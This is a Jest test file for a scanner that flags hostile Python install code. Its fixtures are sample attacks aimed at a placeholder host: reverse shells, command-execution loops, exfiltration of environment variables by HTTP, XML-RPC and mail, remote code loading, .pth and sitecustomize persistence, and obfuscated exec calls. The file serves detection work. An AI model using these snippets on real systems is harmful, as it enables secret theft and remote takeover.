import { pythonReady } from './grammar';
import { readPython } from './read-python';

const HIDDEN = Buffer.from(
  'import os, urllib.request\nurllib.request.urlopen("https://a.invalid", str(dict(os.environ)).encode())\n',
).toString('base64');

const signalsOf = (code: string) => readPython('setup.py', code).observations.map(({ signal }) => signal);

describe('ast/python/techniques', () => {
  beforeAll(pythonReady);

  it.each<[title: string, signal: string, code: string]>([
    [
      'a shell on a connection, in a thread',
      'reverse-shell',
      `import os, pty, socket, threading
def ship():
    s = socket.socket()
    s.connect(("a.invalid", 1))
    for d in (0, 1, 2):
        os.dup2(s.fileno(), d)
    pty.spawn("/bin/sh")
threading.Thread(target=ship).start()`,
    ],
    [
      'a shell on a connection that a thread is given',
      'reverse-shell',
      `import socket, subprocess, threading
def serve(link):
    subprocess.Popen(["/bin/sh", "-i"], stdin=link, stdout=link, stderr=link)
s = socket.create_connection(("a.invalid", 1))
threading.Thread(target=serve, args=(s,)).start()`,
    ],
    [
      'commands out of a connection, in a pool',
      'remote-code',
      `import socket, subprocess
from concurrent.futures import ThreadPoolExecutor
def loop(link):
    subprocess.run(link.recv(1024).decode(), shell=True)
ThreadPoolExecutor().submit(loop, socket.create_connection(("a.invalid", 1)))`,
    ],
    [
      'a .pth that is opened beside the installed packages',
      'autoload-written',
      'import os, sysconfig\nwith open(os.path.join(sysconfig.get_paths()["purelib"], "z.pth"), "w") as out:\n    out.write("x")',
    ],
    [
      'a sitecustomize that is written by its path',
      'autoload-written',
      'import site\nfrom pathlib import Path\n(Path(site.getsitepackages()[0]) / "sitecustomize.py").write_text("x = 1")',
    ],
    [
      'what is written there, read as code',
      'decoded-code',
      'import site\nfrom pathlib import Path\nPath(site.getusersitepackages() + "/z.pth").write_text("import base64; exec(base64.b64decode(\'eA==\'))")',
    ],
    [
      'exec out of the members of builtins',
      'decoded-code',
      'import builtins\nvars(builtins)["ex" + "ec"](bytes.fromhex("78"))',
    ],
    ['the same by __dict__', 'decoded-code', '__import__("builtins").__dict__["exec"](bytes.fromhex("78"))'],
    [
      'exec in a dictionary',
      'remote-code',
      'import requests\nd = {"a": exec}\nd["a"](requests.get("https://a.invalid").text)',
    ],
    ['exec in a list', 'decoded-code', '[exec][0](bytes.fromhex("78"))'],
    ['exec as a member', 'decoded-code', 'class A:\n    run = exec\nA.run(bytes.fromhex("78"))'],
    [
      'exec in place of a hook',
      'decoded-code',
      'import sys\nsys.displayhook = exec\nsys.displayhook(bytes.fromhex("78"))',
    ],
    [
      'exec as a default',
      'decoded-code',
      'def f(c, e=exec):\n    e(c)\nf(bytes.fromhex("78"))\nexec(bytes.fromhex("78"))',
    ],
    ['exec under a condition', 'decoded-code', '(exec if 1 else 0)(bytes.fromhex("78"))'],
    ['exec or nothing', 'decoded-code', '(None or exec)(bytes.fromhex("78"))'],
    ['exec that is named as it is called', 'decoded-code', '(e := exec)(bytes.fromhex("78"))'],
    ['exec by the call of it', 'decoded-code', 'exec.__call__(bytes.fromhex("78"))'],
    ['exec by the module of another function', 'decoded-code', 'print.__self__.exec(bytes.fromhex("78"))'],
    [
      'an interpreter of the library',
      'decoded-code',
      'import code\ncode.InteractiveInterpreter().runsource(bytes.fromhex("78").decode())',
    ],
    ['a stopwatch', 'decoded-code', 'import timeit\ntimeit.timeit(bytes.fromhex("78").decode())'],
    [
      "code in the place of a function's",
      'decoded-code',
      'import marshal\ndef f(): pass\nf.__code__ = marshal.loads(b"x")',
    ],
    [
      'the same by setattr',
      'decoded-code',
      'import marshal\ndef f(): pass\nsetattr(f, "__code__", marshal.loads(b"x"))',
    ],
    [
      'a function by the type of another',
      'decoded-code',
      'import marshal\ntype(lambda: 0)(marshal.loads(b"x"), {})()',
    ],
    [
      'code that only a call nobody knows is given',
      'secret-sent',
      `import base64, other\nother.take(base64.b64decode("${HIDDEN}"))`,
    ],
    [
      'the same with marks in it that Python skips',
      'secret-sent',
      `import base64, other\nother.take(base64.b64decode("@${HIDDEN}@"))`,
    ],
    [
      'a source that a loader is handed',
      'remote-code',
      'import importlib.abc, requests\nclass L(importlib.abc.SourceLoader):\n    def get_data(self, path):\n        return requests.get("https://a.invalid").content',
    ],
    [
      'a program that is fed to an interpreter',
      'decoded-code',
      'import base64, subprocess, sys, x\nsubprocess.run([sys.executable, "-"], input=base64.b64decode(x.y))',
    ],
    [
      'a fetched library',
      'downloaded-program',
      'import ctypes, requests\nopen("/tmp/a.so", "wb").write(requests.get("https://a.invalid").content)\nctypes.CDLL("/tmp/a.so")',
    ],
    [
      'a fetched module that is imported',
      'downloaded-program',
      'import requests, sys\nopen("late.py", "wb").write(requests.get("https://a.invalid").content)\nimport late',
    ],
    [
      'a folder with something fetched, to import from',
      'downloaded-program',
      'import requests, sys\nopen("/tmp/x/late.py", "wb").write(requests.get("https://a.invalid").content)\nsys.path.insert(0, "/tmp/x")',
    ],
    [
      'fetched bytes that become a function',
      'remote-code',
      'import ctypes, mmap, requests\nc = requests.get("https://a.invalid").content\nm = mmap.mmap(-1, 9)\nm.write(c)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()',
    ],
    [
      'a picture that is loaded as code',
      'asset-code',
      'from importlib.machinery import SourcelessFileLoader\nSourcelessFileLoader("m", "logo.png").load_module()',
    ],
    [
      'the environment in an address that is shown',
      'secret-sent',
      'import os, webbrowser\nwebbrowser.open("https://a.invalid/?" + str(dict(os.environ)))',
    ],
    [
      'the environment by a call of another machine',
      'secret-sent',
      'import os, xmlrpc.client\nxmlrpc.client.ServerProxy("https://a.invalid").keep(dict(os.environ))',
    ],
    [
      'the environment by mail',
      'secret-sent',
      'import os, smtplib\nsmtplib.SMTP("a.invalid").sendmail("a", "b", str(dict(os.environ)))',
    ],
    ['exec that is handed on', 'decoded-code', 'list(map(exec, [bytes.fromhex("78")]))'],
    ['letters that look like others', 'decoded-code', '𝘦𝘹𝘦𝘤(bytes.fromhex("78"))'],
    [
      'a picture whose rest is decoded',
      'asset-code',
      'def tail():\n    with open("logo.png", "rb") as f:\n        return f.read()[99:]\nvars(__builtins__)["exec"](bytes(b ^ 7 for b in tail()))',
    ],
    [
      'a decoded file that is started',
      'decoded-code',
      'import base64, subprocess\np = "/tmp/x"\nopen(p, "wb").write(base64.b64decode(DATA))\nsubprocess.Popen([p])',
    ],
  ])('sees %s', (_title, signal, code) => {
    expect(signalsOf(code)).toContain(signal);
  });

  it.each<[title: string, signal: string, code: string]>([
    [
      'streams that go to a file',
      'reverse-shell',
      'import os, socket, sys\nlog = open("x.log", "a")\nos.dup2(log.fileno(), sys.stdout.fileno())',
    ],
    [
      'a program that is fed a download',
      'reverse-shell',
      'import requests, subprocess\nsubprocess.run(["tar", "x"], stdin=requests.get("https://a.example", stream=True).raw)',
    ],
    [
      'a .pth that is built into the wheel',
      'autoload-written',
      'import os\ndef run(self):\n    with open(os.path.join(self.build_lib, "z.pth"), "w") as out:\n        out.write("import z")',
    ],
    ['a .pth that is read', 'autoload-written', 'open("z.pth").read()'],
    ['a template that is compiled', 'decoded-code', 'exec("class {}: pass".format("A"))'],
  ])('is silent about %s', (_title, signal, code) => {
    expect(signalsOf(code)).not.toContain(signal);
  });
});
